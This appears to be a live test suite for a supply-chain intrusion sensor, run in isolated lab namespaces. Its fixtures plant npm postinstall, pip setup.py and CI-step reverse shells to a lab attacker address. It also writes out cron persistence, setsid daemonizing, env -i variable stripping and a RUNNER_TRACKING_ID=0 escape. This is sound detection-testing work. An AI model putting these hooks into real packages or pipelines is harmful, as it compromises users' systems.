"""Supply-chain and CI contexts (issue 5), live: real npm, pip and dpkg installs and fake CI runners.

Attack traffic stays between the lab's victim and attacker namespaces; persistence writes happen only
inside a private mount namespace over tmpfs-backed overlays. Each test first checks that its fixture did
what it should (the shell connected and ran a command, the file landed in the overlay, the hook ran) from
the sensor's own events, then checks the alert fields that shared/design/contracts.md defines.
"""

from __future__ import annotations

import os
import uuid
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from agent.events import Connect, Event, Exec, Exit, FileWrite
from tests.helpers.alerts import alerts_for, incidents, summary, tree_pids, wait_alerts
from tests.helpers.live import skip_or_fail
from tests.live.supplychain import (
    DPKG_WRITES,
    Finished,
    Npm,
    bash_reverse_shell,
    build_deb,
    build_fake_runner,
    build_sdist,
    canonical_pypi_name,
    clean_env,
    dpkg_installed,
    in_private_overlays,
    make_venv,
    npm_available,
    pip_install_argv,
    python_reverse_shell,
    run_checked,
    run_here,
    run_in_lab,
    runner_argv,
    with_env,
)

SHELL_PAYLOAD = b"echo cw-$((6*7))\nexit\n"  # the listener's "attacker" runs one command and leaves
PROOF = b"cw-42"
LOW, HIGH, CRITICAL = 21, 73, 99
EVENT_WAIT = 60.0  # bound on waiting for the sensor's events of one install (polling; never asserted as a time)


# ------------------------------------------------------------------------------------------ fixtures


@pytest.fixture
def npm(tmp_path: Path) -> Npm:
    """npm confined to the test's temporary directory."""
    why = npm_available()
    if why:
        skip_or_fail(why)
    return Npm(tmp_path / "npm")


@pytest.fixture
def venv_python(tmp_path: Path) -> Path:
    """A fresh venv (from /usr/bin/python3) to pip-install into."""
    if not Path("/usr/bin/python3").exists():
        skip_or_fail("/usr/bin/python3 is missing")
    return make_venv(tmp_path / "venv")


# --------------------------------------------------------------------------------------- helpers


class Problems:
    """Collects every wrong or missing field, so one failure lists all of them with the alerts seen."""

    def __init__(self) -> None:
        self.items: list[str] = []

    def expect(self, ok: bool, what: str) -> None:
        if not ok:
            self.items.append(what)

    def check(self, alerts: list[dict[str, Any]], header: str) -> None:
        assert not self.items, f"{header}:\n- " + "\n- ".join(self.items) + "\nalerts seen:\n" + summary(alerts)


def get(doc: Any, dotted: str) -> Any:
    """doc['a']['b'] for 'a.b', or None where a level is missing."""
    for part in dotted.split("."):
        if not isinstance(doc, dict):
            return None
        doc = doc.get(part)
    return doc


def attacker_listener(netlab: Any) -> tuple[Any, int]:
    """A one-connection listener in the attacker namespace that types one command and `exit`."""
    port = netlab.port()
    return netlab.listen_tcp(netlab.attacker_ns, port, payload=SHELL_PAYLOAD, duration=45), port


def assert_shell_ran(listener: Any, done: Finished) -> None:
    """Fixture check: the reverse shell connected to the attacker and ran the attacker's command."""
    received = listener.wait(timeout=60)
    assert PROOF in received, (
        f"fixture: the reverse shell did not run the attacker's command "
        f"(received {received!r}); install {done.describe()}"
    )


def tree(sensorlab: Any, mark: int, root: int) -> tuple[set[int], list[Event]]:
    """The install's process tree as the sensor saw it, once the root's exit has arrived (bounded: a busy
    machine can put the pipeline seconds behind)."""
    sensorlab.wait_for(lambda e: isinstance(e, Exit) and e.pid == root, since=mark, timeout=EVENT_WAIT, settle=0.3)
    events = sensorlab.select(lambda e: True, since=mark)
    pids = tree_pids(events, root)
    return pids, [e for e in events if e.pid in pids]


def assert_sensor_saw_connect(sensorlab: Any, mark: int, root: int, ip: str, port: int) -> set[int]:
    """Fixture check: the sensor saw a process of the install's tree connect to the attacker."""

    def ours(e: Event) -> bool:
        return isinstance(e, Connect) and e.daddr == ip and e.dport == port

    sensorlab.wait_for(ours, since=mark, timeout=EVENT_WAIT, settle=0.3)
    pids, events = tree(sensorlab, mark, root)
    connects = [e for e in events if ours(e)]
    assert connects, (
        f"fixture/sensor: no connect to {ip}:{port} from the install's tree {sorted(pids)}; "
        f"connects seen to that port: {sensorlab.select(ours, since=mark)}; "
        f"kernel drops so far: {sensorlab.sensor.kernel_drops()}"
    )
    return pids


@dataclass(frozen=True)
class ShellRun:
    """An attack that ran: how it finished, where the sensor's event and alert lists stood before it, and the
    process tree the sensor saw."""

    done: Finished
    mark: int
    amark: int
    pids: set[int]


def run_reverse_shell(
    sensorlab: Any, netlab: Any, listener: Any, argv: list[str], cwd: Path, ip: str, port: int, what: str
) -> ShellRun:
    """Run ``argv`` in the victim namespace. Fixture checks: it succeeded, its reverse shell ran the attacker's
    command, and the sensor saw the connect from its tree."""
    mark, amark = sensorlab.mark(), sensorlab.alert_mark()
    done = run_in_lab(netlab, netlab.victim_ns, argv, cwd=cwd)
    assert done.returncode == 0, f"{what} failed: {done.describe()}"
    assert_shell_ran(listener, done)
    return ShellRun(done, mark, amark, assert_sensor_saw_connect(sensorlab, mark, done.pid, ip, port))


def reverse_shell_verdict(
    sensorlab: Any, run: ShellRun, ip: str, port: int, context: str
) -> tuple[Problems, list[dict[str, Any]], dict[str, Any]]:
    """The run's alerts, checked as one high incident in ``context`` with the attacker's address; returns the
    problems so far, the alerts and the incident's last line."""
    alerts = install_alerts(sensorlab, run.amark, run.pids, dest=(ip, port))
    p = Problems()
    last = check_reverse_shell_alert(p, check_one_incident(p, alerts), ip, port, context)
    return p, alerts, last


def install_alerts(
    sensorlab: Any,
    amark: int,
    pids: set[int],
    *,
    dest: tuple[str, int] | None = None,
    path: str | None = None,
    done: Callable[[list[dict[str, Any]]], bool] | None = None,
) -> list[dict[str, Any]]:
    """Alerts that belong to the install (process or an ancestor in its tree, or naming our destination
    or file), polled until ``done`` or a bound."""

    def select(alerts: list[dict[str, Any]]) -> list[dict[str, Any]]:
        return alerts_for(alerts, pids, dest, path)

    if done is None:

        def done(sel: list[dict[str, Any]]) -> bool:
            return dest is not None and any(get(a, "destination.port") == dest[1] for a in sel)

    return wait_alerts(sensorlab, amark, select, done, timeout=EVENT_WAIT)


def check_one_incident(p: Problems, alerts: list[dict[str, Any]]) -> list[dict[str, Any]]:
    groups = incidents(alerts)
    p.expect(len(groups) == 1, f"expected exactly 1 incident for the install, got {len(groups)}")
    return next(iter(groups.values())) if groups else []


def check_reverse_shell_alert(
    p: Problems, lines: list[dict[str, Any]], ip: str, port: int, context: str
) -> dict[str, Any]:
    """The incident's last line is a high alert to our destination in ``context``; no line names
    another context or is above high."""
    if not lines:
        p.expect(False, "no alert at all for the install")
        return {}
    last = lines[-1]
    p.expect(
        last.get("destination") == {"ip": ip, "port": port},
        f"destination: want {{'ip': {ip!r}, 'port': {port}}}, got {last.get('destination')!r}",
    )
    p.expect(get(last, "event.severity") == HIGH, f"event.severity: want {HIGH}, got {get(last, 'event.severity')!r}")
    p.expect(
        get(last, "chainwatch.severity") == "high",
        f"chainwatch.severity: want 'high', got {get(last, 'chainwatch.severity')!r}",
    )
    for i, line in enumerate(lines):
        p.expect(
            get(line, "supply_chain.context") == context,
            f"line {i}: supply_chain.context: want {context!r}, got {get(line, 'supply_chain.context')!r}",
        )
        p.expect(
            (get(line, "event.severity") or 0) <= HIGH,
            f"line {i}: event.severity {get(line, 'event.severity')!r} above high before any persistence",
        )
    return last


def npm_package_fields(name: str, version: str, hook: str = "postinstall") -> dict[str, str]:
    return {"manager": "npm", "name": name, "version": version, "hook": hook}


# ---------------------------------------------------------------------------------- npm postinstall


def test_npm_postinstall_reverse_shell(sensorlab, netlab, npm) -> None:
    """An npm postinstall that opens a bash reverse shell gives one high alert in package_install_npm
    naming the package, its version and the hook, with the attacker's address."""
    listener, port = attacker_listener(netlab)
    ip = netlab.attacker_ip4
    pkg = npm.pack("cw-evil-pkg", "1.0.3", {"postinstall": bash_reverse_shell(ip, port)})
    project = npm.project()
    run = run_reverse_shell(
        sensorlab, netlab, listener, npm.install_argv(project, pkg), project, ip, port, "npm install"
    )

    p, alerts, last = reverse_shell_verdict(sensorlab, run, ip, port, "package_install_npm")
    want = npm_package_fields(pkg.name, pkg.version)
    p.expect(
        get(last, "supply_chain.package") == want,
        f"supply_chain.package: want {want!r}, got {get(last, 'supply_chain.package')!r}",
    )
    p.check(alerts, "npm postinstall reverse shell")


def test_npm_postinstall_reverse_shell_then_cron_escalates(sensorlab, netlab, npm, tmp_path) -> None:
    """The same postinstall, then a write to /etc/cron.d/x (inside a private overlay), escalates the same
    incident to critical with file.path."""
    listener, port = attacker_listener(netlab)
    ip = netlab.attacker_ip4
    marker = f"cw-cron-{uuid.uuid4().hex[:12]}"
    script = (
        f"{bash_reverse_shell(ip, port)}; mkdir -p /etc/cron.d && "
        f"echo '* * * * * root /bin/true {marker}' > /etc/cron.d/x"
    )
    pkg = npm.pack("cw-evil-cron", "2.4.1", {"postinstall": script})
    project = npm.project()
    evidence = tmp_path / "evidence"
    argv = in_private_overlays(npm.install_argv(project, pkg), ["/etc"], tmp_path / "scratch", evidence)
    mark, amark = sensorlab.mark(), sensorlab.alert_mark()
    done = run_in_lab(netlab, netlab.victim_ns, argv, cwd=project)
    assert done.returncode == 0, f"npm install failed: {done.describe()}"
    assert_shell_ran(listener, done)
    written = evidence / "etc" / "cron.d" / "x"
    assert written.is_file() and marker in written.read_text(), (
        f"fixture: /etc/cron.d/x was not written into the overlay ({written}); install {done.describe()}"
    )
    real = Path("/etc/cron.d/x")
    assert not real.exists() or marker not in real.read_text(), "the real /etc/cron.d/x was written!"
    pids = assert_sensor_saw_connect(sensorlab, mark, done.pid, ip, port)
    writes = sensorlab.select(
        lambda e: isinstance(e, FileWrite) and e.pid in pids and e.path == "/etc/cron.d/x", since=mark
    )
    assert writes, "fixture/sensor: no file_write of /etc/cron.d/x from the install's tree"

    def escalated(sel: list[dict[str, Any]]) -> bool:
        return any(get(a, "event.severity") == CRITICAL for a in sel)

    alerts = install_alerts(sensorlab, amark, pids, dest=(ip, port), path="/etc/cron.d/x", done=escalated)
    p = Problems()
    lines = check_one_incident(p, alerts)
    sev = [get(a, "event.severity") for a in lines]
    p.expect(HIGH in sev, f"no high line (the reverse shell) before the escalation; severities {sev}")
    last = lines[-1] if lines else {}
    p.expect(get(last, "event.severity") == CRITICAL, f"last line event.severity: want {CRITICAL}, got {sev[-1:]}")
    p.expect(
        get(last, "chainwatch.severity") == "critical",
        f"last line chainwatch.severity: want 'critical', got {get(last, 'chainwatch.severity')!r}",
    )
    p.expect(
        get(last, "file.path") == "/etc/cron.d/x",
        f"last line file.path: want '/etc/cron.d/x', got {get(last, 'file.path')!r}",
    )
    p.expect(
        get(last, "supply_chain.context") == "package_install_npm",
        f"last line supply_chain.context: want 'package_install_npm', got {get(last, 'supply_chain.context')!r}",
    )
    want = npm_package_fields(pkg.name, pkg.version)
    p.expect(
        get(last, "supply_chain.package") == want,
        f"last line supply_chain.package: want {want!r}, got {get(last, 'supply_chain.package')!r}",
    )
    if HIGH in sev and CRITICAL in sev:
        p.expect(sev.index(HIGH) < sev.index(CRITICAL), f"the critical line came before the high one: {sev}")
    p.check(alerts, "npm postinstall reverse shell then cron write")


def test_npm_postinstall_daemonized_reverse_shell_keeps_context(sensorlab, netlab, npm, tmp_path) -> None:
    """A postinstall that daemonizes (setsid and a double fork, re-parented away from npm) before its
    reverse shell still gives package_install_npm."""
    listener, port = attacker_listener(netlab)
    ip = netlab.attacker_ip4
    ppid_file = tmp_path / "daemon-ppid"
    # The daemon waits until its parent subshell is gone, records its parent, then opens the shell.
    # Its stdio is /dev/null so npm does not wait for it.
    daemon = f"sleep 0.5; cut -d' ' -f4 /proc/\\$\\$/stat > {ppid_file}; {bash_reverse_shell(ip, port)}"
    script = f'( setsid bash -c "{daemon}" </dev/null >/dev/null 2>&1 & ); exit 0'
    pkg = npm.pack("cw-evil-daemon", "0.9.0", {"postinstall": script})
    project = npm.project()
    run = run_reverse_shell(
        sensorlab, netlab, listener, npm.install_argv(project, pkg), project, ip, port, "npm install"
    )
    assert ppid_file.is_file(), "fixture: the daemon never ran"
    daemon_ppid = int(ppid_file.read_text().split()[0])
    assert daemon_ppid not in run.pids, f"fixture: the daemon was not re-parented (parent {daemon_ppid} is in the tree)"

    p, alerts, last = reverse_shell_verdict(sensorlab, run, ip, port, "package_install_npm")
    want = npm_package_fields(pkg.name, pkg.version)  # the npm_* labels are still inherited
    p.expect(
        get(last, "supply_chain.package") == want,
        f"supply_chain.package: want {want!r}, got {get(last, 'supply_chain.package')!r}",
    )
    p.check(alerts, "daemonized npm postinstall reverse shell")


def test_npm_postinstall_without_npm_env_keeps_context(sensorlab, netlab, npm) -> None:
    """A postinstall that drops every npm_* variable (env -i) before its reverse shell still gives
    package_install_npm: the context rests on lineage, the variables are only labels."""
    listener, port = attacker_listener(netlab)
    ip = netlab.attacker_ip4
    script = f'env -i PATH=/usr/bin:/bin bash -c "{bash_reverse_shell(ip, port)}"'
    pkg = npm.pack("cw-evil-noenv", "3.0.0", {"postinstall": script})
    project = npm.project()
    run = run_reverse_shell(
        sensorlab, netlab, listener, npm.install_argv(project, pkg), project, ip, port, "npm install"
    )
    _, events = tree(sensorlab, run.mark, run.done.pid)
    shells = [e for e in events if isinstance(e, Exec) and "-i" in e.args and e.filename.endswith("bash")]
    assert shells and all(not any(k.startswith("npm_") for k in e.env) for e in shells), (
        f"fixture: the reverse shell still had npm_* variables: {[e.env for e in shells]}"
    )

    p, alerts, _ = reverse_shell_verdict(sensorlab, run, ip, port, "package_install_npm")
    p.check(alerts, "npm postinstall reverse shell without npm_* variables")


# ------------------------------------------------------------------------------------------------ pip


def test_pip_setup_py_reverse_shell(sensorlab, netlab, venv_python, tmp_path) -> None:
    """`pip install` of a local sdist whose setup.py opens a python reverse shell gives one high alert
    in package_install_pip naming the package."""
    listener, port = attacker_listener(netlab)
    ip = netlab.attacker_ip4
    name = "cw-evil-pip"
    setup_py = (
        python_reverse_shell(ip, port, tmp_path / "fired-once")
        + f"from setuptools import setup\nsetup(name={name!r}, version='0.1.0', py_modules=['cw_evil_pip'])\n"
    )
    sdist = build_sdist(tmp_path, name, "0.1.0", setup_py, {"cw_evil_pip.py": "VALUE = 1\n"})
    run = run_reverse_shell(
        sensorlab,
        netlab,
        listener,
        pip_install_argv(venv_python, sdist, tmp_path / "home"),
        tmp_path,
        ip,
        port,
        "pip install",
    )

    p, alerts, last = reverse_shell_verdict(sensorlab, run, ip, port, "package_install_pip")
    p.expect(
        get(last, "supply_chain.package.manager") == "pip",
        f"supply_chain.package.manager: want 'pip', got {get(last, 'supply_chain.package.manager')!r}",
    )
    got = get(last, "supply_chain.package.name")
    p.expect(
        isinstance(got, str) and canonical_pypi_name(got) == canonical_pypi_name(name),
        f"supply_chain.package.name: want {name!r} (PEP 503 normalised), got {got!r}",
    )
    p.check(alerts, "pip setup.py reverse shell")


# ----------------------------------------------------------------------------------------- CI runners

RUNNERS = {
    "github_actions": {
        "path": "actions-runner/bin/Runner.Worker",
        "args": ["spawnclient", "107", "110"],
        "env": {
            "GITHUB_ACTIONS": "true",
            "GITHUB_REPOSITORY": "cw-org/cw-repo",
            "GITHUB_RUN_ID": "8675309001",
            "GITHUB_JOB": "build",
            "GITHUB_WORKFLOW": "CI",
            "RUNNER_TRACKING_ID": f"github_{uuid.uuid4()}",
        },
        "context": "cicd_runner_github_actions",
    },
    "gitlab": {
        "path": "usr/lib/gitlab-runner/gitlab-runner",
        "args": [
            "run",
            "--working-directory",
            "/home/gitlab-runner",
            "--config",
            "/etc/gitlab-runner/config.toml",
            "--service",
            "gitlab-runner",
        ],
        "env": {
            "CI": "true",
            "GITLAB_CI": "true",
            "CI_JOB_ID": "4242001",
            "CI_PIPELINE_ID": "90210",
            "CI_JOB_NAME": "build",
            "CI_PROJECT_PATH": "cw-group/cw-project",
        },
        "context": "cicd_runner_gitlab",
    },
}


def runner_step(tmp_path: Path, spec: dict[str, Any], script: str) -> tuple[Path, list[str]]:
    """A fake runner and the argv that makes it run ``script`` as a step with the job's labels."""
    runner = build_fake_runner(tmp_path / spec["path"])
    step = tmp_path / "_work" / "_temp" / f"{uuid.uuid4()}.sh"
    step.parent.mkdir(parents=True)
    step.write_text(script)
    env: dict[str, str] = spec["env"]
    # The runner keeps its own tracking id; the step gets the job's labels (a real runner sets them per step).
    own = {k: v for k, v in env.items() if k == "RUNNER_TRACKING_ID"}
    return runner, with_env(
        clean_env(tmp_path / "home", own), runner_argv(runner, spec["args"], env, ["bash", "-e", str(step)])
    )


@pytest.mark.parametrize("provider", sorted(RUNNERS))
def test_ci_runner_step_reverse_shell(sensorlab, netlab, tmp_path, provider) -> None:
    """A step run by a process named Runner.Worker (GITHUB_* set for the step) or gitlab-runner (CI_* set)
    that opens a reverse shell gives one high alert in that runner's context with the job's attribution."""
    spec = RUNNERS[provider]
    listener, port = attacker_listener(netlab)
    ip = netlab.attacker_ip4
    env: dict[str, str] = spec["env"]
    runner, argv = runner_step(tmp_path, spec, f"echo building\n{bash_reverse_shell(ip, port)}\necho done\n")
    run = run_reverse_shell(sensorlab, netlab, listener, argv, tmp_path, ip, port, "fake runner")
    roots = sensorlab.select(
        lambda e: isinstance(e, Exec) and e.pid == run.done.pid and e.filename == str(runner), since=run.mark
    )
    assert roots, f"fixture/sensor: no exec of {runner} as pid {run.done.pid}"

    p, alerts, last = reverse_shell_verdict(sensorlab, run, ip, port, spec["context"])
    ci = get(last, "supply_chain.ci")
    p.expect(isinstance(ci, dict), f"supply_chain.ci missing: {ci!r}")
    ci = ci if isinstance(ci, dict) else {}
    p.expect(ci.get("provider") == provider, f"supply_chain.ci.provider: want {provider!r}, got {ci.get('provider')!r}")
    if provider == "github_actions":
        for field, var in (
            ("repository", "GITHUB_REPOSITORY"),
            ("run_id", "GITHUB_RUN_ID"),
            ("job", "GITHUB_JOB"),
            ("workflow", "GITHUB_WORKFLOW"),
        ):
            p.expect(ci.get(field) == env[var], f"supply_chain.ci.{field}: want {env[var]!r}, got {ci.get(field)!r}")
    else:
        p.expect(
            ci.get("repository") == env["CI_PROJECT_PATH"],
            f"supply_chain.ci.repository: want {env['CI_PROJECT_PATH']!r}, got {ci.get('repository')!r}",
        )
        # Where the job id goes is the implementation's choice (run_id, job, or an extra job_id field).
        p.expect(
            env["CI_JOB_ID"] in (ci.get("run_id"), ci.get("job"), ci.get("job_id")),
            f"supply_chain.ci: want CI_JOB_ID {env['CI_JOB_ID']!r} as run_id, job or job_id, got {ci!r}",
        )
    p.check(alerts, f"{provider} runner step reverse shell")


def test_npm_postinstall_cron_write_alone_is_medium(sensorlab, npm, tmp_path) -> None:
    """A postinstall that only writes /etc/cron.d/<name> (inside a private overlay), no shell or C2, gives
    one medium alert in package_install_npm with file.path (persistence alone in a context)."""
    marker = f"cw-cron-{uuid.uuid4().hex[:12]}"
    cron = f"/etc/cron.d/{marker}"
    pkg = npm.pack(
        "cw-cron-only",
        "1.1.0",
        {"postinstall": f"mkdir -p /etc/cron.d && echo '* * * * * root /bin/true {marker}' > {cron}"},
    )
    project = npm.project()
    evidence = tmp_path / "evidence"
    argv = in_private_overlays(npm.install_argv(project, pkg), ["/etc"], tmp_path / "scratch", evidence)
    mark, amark = sensorlab.mark(), sensorlab.alert_mark()
    done = run_here(argv, cwd=project)
    assert done.returncode == 0, f"npm install failed: {done.describe()}"
    written = evidence / "etc" / cron.removeprefix("/etc/")
    assert written.is_file() and marker in written.read_text(), f"fixture: {cron} not written into the overlay"
    assert not Path(cron).exists(), f"the real {cron} was written!"
    pids, events = tree(sensorlab, mark, done.pid)
    assert [e for e in events if isinstance(e, FileWrite) and e.path == cron], (
        f"fixture/sensor: no file_write of {cron} from the install's tree"
    )

    alerts = install_alerts(
        sensorlab, amark, pids, path=cron, done=lambda sel: any(get(a, "file.path") == cron for a in sel)
    )
    p = Problems()
    lines = check_one_incident(p, alerts)
    last = lines[-1] if lines else {}
    p.expect(get(last, "event.severity") == 47, f"event.severity: want 47, got {get(last, 'event.severity')!r}")
    p.expect(get(last, "file.path") == cron, f"file.path: want {cron!r}, got {get(last, 'file.path')!r}")
    p.expect(
        get(last, "supply_chain.context") == "package_install_npm",
        f"supply_chain.context: want 'package_install_npm', got {get(last, 'supply_chain.context')!r}",
    )
    want = npm_package_fields(pkg.name, pkg.version)
    p.expect(
        get(last, "supply_chain.package") == want,
        f"supply_chain.package: want {want!r}, got {get(last, 'supply_chain.package')!r}",
    )
    p.check(alerts, "npm postinstall cron write alone")


def test_github_step_changing_runner_tracking_id_alerts(sensorlab, tmp_path) -> None:
    """A GitHub Actions step that starts a process with a RUNNER_TRACKING_ID other than the job's (to
    escape the runner's cleanup) gives an alert in cicd_runner_github_actions naming that process."""
    spec = RUNNERS["github_actions"]
    marker = f"cw-escape-{uuid.uuid4().hex[:8]}"
    _, argv = runner_step(tmp_path, spec, f"RUNNER_TRACKING_ID=0 timeout 5 sh -c 'sleep 0.2' {marker}\n")
    mark, amark = sensorlab.mark(), sensorlab.alert_mark()
    done = run_here(argv, cwd=tmp_path)
    assert done.returncode == 0, f"fake runner failed: {done.describe()}"
    pids, events = tree(sensorlab, mark, done.pid)
    escaped = [e for e in events if isinstance(e, Exec) and marker in e.args]
    assert escaped and escaped[0].env.get("RUNNER_TRACKING_ID") == "0", (
        f"fixture/sensor: no exec with RUNNER_TRACKING_ID=0 seen: {[(e.args, e.env) for e in escaped]}"
    )

    alerts = install_alerts(sensorlab, amark, pids, done=bool)
    p = Problems()
    lines = check_one_incident(p, alerts)
    last = lines[-1] if lines else {}
    p.expect(
        (get(last, "event.severity") or 0) >= 47,
        f"event.severity: want at least medium (47), got {get(last, 'event.severity')!r}",
    )
    p.expect(
        get(last, "supply_chain.context") == "cicd_runner_github_actions",
        f"supply_chain.context: want 'cicd_runner_github_actions', got {get(last, 'supply_chain.context')!r}",
    )
    p.expect(
        marker in " ".join(get(last, "process.args") or [])
        or any(marker in " ".join(a.get("args", [])) for a in get(last, "chainwatch.ancestry") or []),
        "the alert does not name the escaping process (its args carry the marker)",
    )
    p.check(alerts, "RUNNER_TRACKING_ID changed by a step")


# --------------------------------------------------------------------------------------- benign installs


def assert_benign(sensorlab: Any, amark: int, pids: set[int], what: str, path: str | None = None) -> None:
    """No alert above low from the install's processes (or naming its file)."""
    alerts = alerts_for(sensorlab.alerts_since(amark, settle=2.0), pids, None, path)
    loud = [a for a in alerts if (get(a, "event.severity") or 0) > LOW]
    assert not loud, f"{what}: alerts above low from the install:\n{summary(loud)}"


def test_benign_npm_install_with_compiling_postinstall(sensorlab, netlab, npm) -> None:
    """A real npm install whose postinstall compiles C and writes a build output (no network) raises
    nothing above low."""
    hello = '#include <stdio.h>\nint main(void) { puts("hello from cw-native-addon"); return 0; }\n'
    script = (
        "mkdir -p build && cc -O2 -o build/hello src/hello.c && ./build/hello > build/out.txt && "
        "node -e \"require('fs').writeFileSync('build/done.json', JSON.stringify({ok: true}))\""
    )
    pkg = npm.pack("cw-native-addon", "1.2.0", {"postinstall": script}, {"src/hello.c": hello})
    project = npm.project()
    mark, amark = sensorlab.mark(), sensorlab.alert_mark()
    done = run_in_lab(netlab, netlab.victim_ns, npm.install_argv(project, pkg), cwd=project)
    assert done.returncode == 0, f"npm install failed: {done.describe()}"
    out = project / "node_modules" / pkg.name / "build"
    assert (out / "out.txt").read_text() == "hello from cw-native-addon\n", f"fixture: no build output in {out}"
    assert (out / "done.json").is_file(), f"fixture: node did not write {out / 'done.json'}"
    pids, events = tree(sensorlab, mark, done.pid)
    compilers = [e for e in events if isinstance(e, Exec) and os.path.basename(e.filename) in ("cc", "gcc", "cc1")]
    assert compilers, "fixture/sensor: the postinstall's compiler exec was not seen in the install's tree"
    assert_benign(sensorlab, amark, pids, "npm install with a compiling postinstall")


def test_benign_pip_install_of_sdist_building_c_extension(sensorlab, netlab, venv_python, tmp_path) -> None:
    """`pip install` of a local sdist that builds a C extension (no network) raises nothing above low."""
    if not list(Path("/usr/include").glob("python3*/Python.h")):
        skip_or_fail("Python.h for /usr/bin/python3 is missing (scripts/setup.sh installs python3-dev)")
    c_src = (
        "#define PY_SSIZE_T_CLEAN\n#include <Python.h>\n"
        "static PyObject *add(PyObject *self, PyObject *args) {\n"
        '    long a, b;\n    if (!PyArg_ParseTuple(args, "ll", &a, &b)) return NULL;\n'
        "    return PyLong_FromLong(a + b);\n}\n"
        'static PyMethodDef methods[] = {{"add", add, METH_VARARGS, "a + b"}, {NULL, NULL, 0, NULL}};\n'
        'static struct PyModuleDef mod = {PyModuleDef_HEAD_INIT, "cwfastsum", NULL, -1, methods};\n'
        "PyMODINIT_FUNC PyInit_cwfastsum(void) { return PyModule_Create(&mod); }\n"
    )
    setup_py = (
        "from setuptools import Extension, setup\n"
        "setup(name='cw-fastsum', version='1.0.0', "
        "ext_modules=[Extension('cwfastsum', sources=['cwfastsum.c'])])\n"
    )
    sdist = build_sdist(tmp_path, "cw-fastsum", "1.0.0", setup_py, {"cwfastsum.c": c_src})
    mark, amark = sensorlab.mark(), sensorlab.alert_mark()
    done = run_in_lab(netlab, netlab.victim_ns, pip_install_argv(venv_python, sdist, tmp_path / "home"), cwd=tmp_path)
    assert done.returncode == 0, f"pip install failed: {done.describe()}"
    check = run_checked([str(venv_python), "-c", "import cwfastsum; print(cwfastsum.add(2, 3))"])
    assert check.stdout.strip() == "5", f"fixture: the built extension does not work: {check.describe()}"
    pids, events = tree(sensorlab, mark, done.pid)
    compilers = [
        e
        for e in events
        if isinstance(e, Exec) and os.path.basename(e.filename).startswith(("cc", "gcc", "x86_64-linux-gnu-gcc"))
    ]
    assert compilers, "fixture/sensor: no compiler exec seen in pip's tree"
    assert_benign(sensorlab, amark, pids, "pip install of an sdist with a C extension")


def test_benign_dpkg_install_of_deb_shipping_cron_file(sensorlab, tmp_path) -> None:
    """`dpkg -i` of a locally built .deb that ships /etc/cron.d/<name> (dpkg unpacking its own file, and a
    benign postinst) raises nothing above low. dpkg runs inside a private mount namespace over overlays
    on everything it writes; the real system never sees the package."""
    name = f"cw-benign-cron-{uuid.uuid4().hex[:6]}"
    cron = f"/etc/cron.d/{name}"
    postinst = '#!/bin/sh\nset -e\nif [ "$1" = configure ]; then\n    :\nfi\nexit 0\n'
    deb = build_deb(
        tmp_path,
        name,
        "1.0",
        {cron: "17 * * * * root /bin/true\n"},
        conffiles=[cron],
        maintscripts={"postinst": postinst},
    )
    evidence = tmp_path / "evidence"
    argv = in_private_overlays(
        with_env(clean_env(tmp_path / "home"), ["dpkg", "-i", str(deb)]), DPKG_WRITES, tmp_path / "scratch", evidence
    )
    mark, amark = sensorlab.mark(), sensorlab.alert_mark()
    done = run_here(argv)
    try:
        assert done.returncode == 0, f"dpkg -i failed: {done.describe()}"
        shipped = evidence / "etc" / "cron.d" / name
        assert shipped.is_file(), f"fixture: dpkg did not place {cron} in the overlay: {done.describe()}"
        assert (evidence / "var_lib_dpkg" / "info" / f"{name}.list").is_file(), "fixture: dpkg recorded nothing"
        pids, events = tree(sensorlab, mark, done.pid)
        writes = [e for e in events if isinstance(e, FileWrite) and cron in (e.path, e.source_path)]
        assert writes, f"fixture/sensor: no file_write of {cron} from dpkg's tree"
        assert_benign(sensorlab, amark, pids, "dpkg -i of a .deb shipping a cron file", path=cron)
    finally:
        assert not dpkg_installed(name), f"{name} is installed on the real system!"
        assert not Path(cron).exists(), f"the real {cron} exists!"


def test_npm_decoy_then_real_shell_then_two_cron_files_one_incident_every_artifact(
    sensorlab, netlab, npm, tmp_path
) -> None:
    """Inside one npm install: a decoy reverse shell to one lab address, a second one to another (IPv6), then
    two cron files. One incident, whose lines name both destinations and both files (issue 11 item 7: a decoy
    cannot hide the real C2 address, and every file written reaches the SIEM)."""
    decoy, decoy_port = attacker_listener(netlab)
    real_port = netlab.port()
    real = netlab.listen_tcp(netlab.attacker_ns, real_port, family=6, payload=SHELL_PAYLOAD, duration=45)
    ip4, ip6 = netlab.attacker_ip4, netlab.attacker_ip6
    marker = f"cw-decoy-{uuid.uuid4().hex[:12]}"
    script = (
        f"{bash_reverse_shell(ip4, decoy_port)}; {bash_reverse_shell(ip6, real_port)}; mkdir -p /etc/cron.d && "
        f"echo '* * * * * root /bin/true {marker}' > /etc/cron.d/cw-a && "
        f"echo '* * * * * root /bin/true {marker}' > /etc/cron.d/cw-b"
    )
    pkg = npm.pack("cw-evil-decoy", "3.0.0", {"postinstall": script})
    project = npm.project()
    evidence = tmp_path / "evidence"
    argv = in_private_overlays(npm.install_argv(project, pkg), ["/etc"], tmp_path / "scratch", evidence)
    mark, amark = sensorlab.mark(), sensorlab.alert_mark()
    done = run_in_lab(netlab, netlab.victim_ns, argv, cwd=project)
    assert done.returncode == 0, f"npm install failed: {done.describe()}"
    assert_shell_ran(decoy, done)
    assert_shell_ran(real, done)
    for name in ("cw-a", "cw-b"):
        written = evidence / "etc" / "cron.d" / name
        assert marker in written.read_text(), f"fixture: {written} is not in the overlay"
        assert not Path(f"/etc/cron.d/{name}").exists(), "the real /etc/cron.d was written!"
    pids = assert_sensor_saw_connect(sensorlab, mark, done.pid, ip6, real_port)

    def complete(sel: list[dict[str, Any]]) -> bool:
        return {get(a, "file.path") for a in sel} >= {"/etc/cron.d/cw-a", "/etc/cron.d/cw-b"}

    alerts = install_alerts(sensorlab, amark, pids, dest=(ip6, real_port), done=complete)
    p = Problems()
    lines = check_one_incident(p, alerts)
    dests = {(get(a, "destination.ip"), get(a, "destination.port")) for a in lines}
    p.expect({(ip4, decoy_port), (ip6, real_port)} <= dests, f"lines name destinations {sorted(map(str, dests))}")
    files = {get(a, "file.path") for a in lines}
    p.expect({"/etc/cron.d/cw-a", "/etc/cron.d/cw-b"} <= files, f"lines name files {sorted(map(str, files))}")
    last = lines[-1] if lines else {}
    p.expect(get(last, "event.severity") == CRITICAL, f"last line severity {get(last, 'event.severity')}")
    arts = get(last, "chainwatch.artifacts") or {}
    p.expect({f"{ip4}:{decoy_port}", f"{ip6}:{real_port}"} <= set(arts.get("destinations", [])), f"artifacts {arts}")
